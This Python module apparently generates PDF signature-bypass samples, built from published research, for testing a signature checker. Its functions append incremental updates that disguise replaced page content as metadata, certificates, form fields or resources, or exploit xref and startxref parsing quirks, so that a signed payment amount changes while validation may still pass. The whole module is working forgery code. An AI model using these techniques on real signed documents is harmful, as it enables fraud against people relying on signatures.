"""Attacks by role: an object that pages use is rewritten under a name that a checker thinks harmless, and other ways in
which readers may see something else than the checker. Built from what Mainka et al. (2021) and Rohlmann et al. (2021)
say of the rules that programs apply to later revisions.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

import pikepdf

#: Well-formed metadata that readers of page content also understand, past what they skip.
_XMP = (
    b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
    b" %s </rdf:RDF></x:xmpmeta>"
)
EVIL = b"BT /F 20 Tf 60 700 Td (9.999.999.999 dong) Tj ET"


def update(pdf: bytes, objects: dict[int, bytes], **trailer: bytes) -> bytes:
    """An increment of raw objects with a sound table; ``trailer`` replaces its entries (Size, Root, Info, Prev)."""
    with pikepdf.open(io.BytesIO(pdf)) as found:
        root, size = found.Root.objgen[0], int(found.trailer.Size)
    entries = {
        "Size": b"%d" % max([size, *(n + 1 for n in objects)]),
        "Root": b"%d 0 R" % root,
        "Prev": re.findall(rb"startxref\s+(\d+)", pdf)[-1],
    } | trailer
    body, table = b"\n", b""
    for number, text in sorted(objects.items()):
        table += b"%d 1\n%010d 00000 n \n" % (number, len(pdf) + len(body))
        body += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    start = len(pdf) + len(body)
    words = b" ".join(b"/%s %s" % (k.encode(), v) for k, v in entries.items())
    return pdf + body + b"xref\n" + (table or b"0 0\n") + b"trailer\n<<%s>>\nstartxref\n%d\n%%%%EOF\n" % (words, start)


def stream_of(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n" % (entries, len(content)) + content + b"\nendstream"


def text_of(value: Any) -> bytes:
    return bytes(value.unparse(resolved=True))


class Opened:
    """A signed file with the numbers that an attacker looks up."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        self.pdf = pikepdf.open(io.BytesIO(data))
        self.page: Any = self.pdf.pages[0].obj

    def number(self, *path: str) -> int:
        node = self.page
        for key in path:
            node = node[int(key)] if key.isdigit() else node.get(key)
        return int(node.objgen[0])

    def catalog(self, **more: bytes) -> dict[int, bytes]:
        """The catalog with these entries put in place of its own."""
        text = b" ".join(
            b"%s %s" % (k.encode(), v.unparse()) for k, v in self.pdf.Root.items() if k[1:] not in more
        ) + b"".join(b" /%s %s" % (k.encode(), v) for k, v in more.items())
        return {self.pdf.Root.objgen[0]: b"<<" + text + b">>"}

    @property
    def fresh(self) -> int:
        return int(self.pdf.trailer.Size)


def original(*, kind: str = "") -> bytes:
    """Two pages whose parts are all objects of their own: content in an array, resources, a picture, a font."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(pikepdf.Dictionary(Type=N("Font"), Subtype=N("Type1"), BaseFont=N("Times-Roman")))
    for index in range(2):
        page = pdf.add_blank_page(page_size=(595, 842)).obj
        picture = pdf.make_stream(b"\x00\xff" * 32)
        picture.Type, picture.Subtype, picture.Width, picture.Height = N("XObject"), N("Image"), 8, 8
        picture.ColorSpace, picture.BitsPerComponent = N("DeviceGray"), 8
        if kind == "typed-picture":
            picture.Type = N("ObjStm")
        fonts = pdf.make_indirect(pikepdf.Dictionary(F=font))
        pictures = pdf.make_indirect(pikepdf.Dictionary(P=picture))
        page.Resources = pdf.make_indirect(pikepdf.Dictionary(Font=fonts, XObject=pictures))
        words = b"q 100 0 0 100 300 500 cm /P Do Q BT /F 20 Tf 60 700 Td (Ung ho 100 dong, trang %d) Tj ET" % (
            index + 1
        )
        content = pdf.make_stream(words)
        page.Contents = pdf.make_indirect(pikepdf.Array([content]))
        page.Annots = pdf.make_indirect(pikepdf.Array([]))
        if kind == "metadata-drawn" and index == 0:
            xmp = pdf.make_stream(_XMP % b"BT /F 20 Tf 60 600 Td (mot) Tj ET")
            xmp.Type, xmp.Subtype = N("Metadata"), N("XML")
            page.Contents.append(xmp)
            pdf.Root.Metadata = xmp
    if kind == "layers":
        layer = pdf.make_indirect(pikepdf.Dictionary(Type=N("OCG"), Name="L"))
        config = pikepdf.Dictionary(OFF=pikepdf.Array([layer]))
        pdf.Root.OCProperties = pdf.make_indirect(pikepdf.Dictionary(OCGs=pikepdf.Array([layer]), D=config))
    pdf.docinfo["/Title"] = "x"
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, fix_metadata_version=False)
    return out.getvalue()


def N(name: str) -> Any:
    return pikepdf.Name("/" + name)


# -- roles -------------------------------------------------------------------------------------------------------


def information_is_pictures(data: bytes) -> bytes:
    """The trailer's /Info points at the page's dictionary of pictures, which is rewritten."""
    one = Opened(data)
    number, new = one.number("/Resources", "/XObject"), one.fresh
    form = stream_of(EVIL.replace(b"700", b"300"), b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    return update(data, {number: b"<</P %d 0 R>>" % new, new: form}, Info=b"%d 0 R" % number)


def metadata_is_content(data: bytes) -> bytes:
    one = Opened(data)
    number = one.number("/Contents", "0")
    body = stream_of(EVIL, b"/Type/Metadata/Subtype/XML")
    return update(data, {number: body, **one.catalog(Metadata=b"%d 0 R" % number)})


def metadata_is_drawn(data: bytes) -> bytes:
    """The metadata stream was prepared as a part of the page's content too."""
    one = Opened(data)
    number = int(one.pdf.Root.Metadata.objgen[0])
    body = stream_of(_XMP % EVIL, b"/Type/Metadata/Subtype/XML")
    return update(data, {number: body})


def certificates_are_content(data: bytes) -> bytes:
    """The security store's list of certificates is the page's list of content streams."""
    one = Opened(data)
    number, new = one.number("/Contents"), one.fresh
    objects = {number: b"[%d 0 R]" % new, new: stream_of(EVIL), new + 1: b"<</Certs %d 0 R>>" % number}
    return update(data, {**objects, **one.catalog(DSS=b"%d 0 R" % (new + 1))})


def fields_are_content(data: bytes) -> bytes:
    one = Opened(data)
    number, new = one.number("/Contents"), one.fresh
    form: Any = one.pdf.Root.AcroForm
    fields = b" ".join(b"%d 0 R" % f.objgen[0] for f in form.Fields)
    objects = {number: b"[%d 0 R %s]" % (new, fields), new: stream_of(EVIL)}
    text = b"<</Fields %d 0 R/SigFlags 3>>" % number
    return update(data, {**objects, **one.catalog(AcroForm=text)})


def form_resources_are_the_pages(data: bytes) -> bytes:
    """The form's resources point at the page's, whose font is another now."""
    one = Opened(data)
    number, new = one.number("/Resources"), one.fresh
    pictures = one.number("/Resources", "/XObject")
    resources = b"<</Font<</F %d 0 R>>/XObject %d 0 R>>" % (new, pictures)
    symbols = b"<</Type/Font/Subtype/Type1/BaseFont/Symbol>>"
    form: Any = one.pdf.Root.AcroForm
    fields = b" ".join(b"%d 0 R" % f.objgen[0] for f in form.Fields)
    text = b"<</Fields [%s]/SigFlags 3/DR %d 0 R>>" % (fields, number)
    return update(data, {number: resources, new: symbols, **one.catalog(AcroForm=text)})


def extensions_are_resources(data: bytes) -> bytes:
    one = Opened(data)
    number, new = one.number("/Resources", "/Font"), one.fresh
    symbols = b"<</Type/Font/Subtype/Type1/BaseFont/Symbol>>"
    fonts = b"<</F %d 0 R>>" % new
    return update(data, {number: fonts, new: symbols, **one.catalog(Extensions=b"%d 0 R" % number)})


def typed_picture(data: bytes) -> bytes:
    """A picture that calls itself an object stream is exchanged."""
    one = Opened(data)
    number = one.number("/Resources", "/XObject", "/P")
    entries = b"/Type/ObjStm/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8"
    return update(data, {number: stream_of(b"\xff\x00" * 32, entries)})


def page_list_is_annotations(data: bytes) -> bytes:
    """A page's list of annotations is the list of pages: its order is turned."""
    one = Opened(data)
    kids = int(one.pdf.Root.Pages.Kids.objgen[0]) or int(one.pdf.Root.Pages.objgen[0])
    turned = b" ".join(b"%d 0 R" % p.obj.objgen[0] for p in reversed(list(one.pdf.pages)))
    if one.pdf.Root.Pages.Kids.objgen[0]:
        return update(data, {kids: b"[%s]" % turned})
    return update(data, {kids: b"<</Type/Pages/Count 2/Kids[%s]>>" % turned})


ROLES: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "information": ("", information_is_pictures),
    "metadata": ("", metadata_is_content),
    "metadata-drawn": ("metadata-drawn", metadata_is_drawn),
    "certificates": ("", certificates_are_content),
    "fields": ("", fields_are_content),
    "form-resources": ("", form_resources_are_the_pages),
    "extensions": ("", extensions_are_resources),
    "typed-picture": ("typed-picture", typed_picture),
    "page-order": ("", page_list_is_annotations),
}


# -- what readers see differently ----------------------------------------------------------------------------------


def startxref_in_a_comment(data: bytes) -> bytes:
    """Readers look for the last such word from the end, comment or not."""
    first = re.findall(rb"startxref\s+(\d+)", data)[0]
    return data + b"%% startxref %s %%%%EOF\n" % first


def startxref_after_the_update(data: bytes) -> bytes:
    first = re.findall(rb"startxref\s+(\d+)", data)[0]
    return update(data, {}) + b"%% startxref %s %%%%EOF\n" % first


def smaller_table(data: bytes) -> bytes:
    """Objects from /Size up do not exist for strict readers."""
    return update(data, {}, Size=b"4")


def two_tables(data: bytes) -> bytes:
    """A hybrid section: its table and its stream name different objects under one number."""
    one = Opened(data)
    number, new = one.number("/Contents", "0"), one.fresh
    base = update(data, {number: text_of_content(one), new: stream_of(EVIL)})
    harmless = re.search(rb"%d 1\n(\d{10}) 00000 n" % number, base[len(data) :])
    evil = re.search(rb"%d 1\n(\d{10}) 00000 n" % new, base[len(data) :])
    assert harmless
    assert evil
    at = len(base)
    row = b"\x01" + int(evil.group(1)).to_bytes(4, "big") + b"\x00"
    entries = b"/Type/XRef/W[1 4 1]/Index[%d 1]/Size %d" % (number, new + 2)
    table = b"%d 0 obj\n" % (new + 1) + stream_of(row, entries) + b"\nendobj\n"
    start = at + len(table)
    root = one.pdf.Root.objgen[0]
    previous = re.findall(rb"startxref\s+(\d+)", base)[-1]
    rows = b"%d 1\n%s 00000 n \n%d 1\n%010d 00000 n \n" % (number, harmless.group(1), new + 1, at)
    trailer = b"<</Size %d/Root %d 0 R/Prev %s/XRefStm %d>>" % (new + 2, root, previous, at)
    return base + table + b"xref\n" + rows + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % start


def text_of_content(one: Opened) -> bytes:
    return stream_of(one.page.Contents[0].read_bytes())


def table_in_a_circle(data: bytes) -> bytes:
    """A table whose /Prev is itself: everything signed is forgotten, or a reader never ends."""
    start = len(update(data, {}).rsplit(b"xref\n0 0", 1)[0])
    return update(data, {}, Prev=b"%d" % start)


DIFFERENTLY: dict[str, Callable[[bytes], bytes]] = {
    "startxref-in-a-comment": startxref_in_a_comment,
    "startxref-after-the-update": startxref_after_the_update,
    "smaller-table": smaller_table,
    "two-tables": two_tables,
    "circle": table_in_a_circle,
}
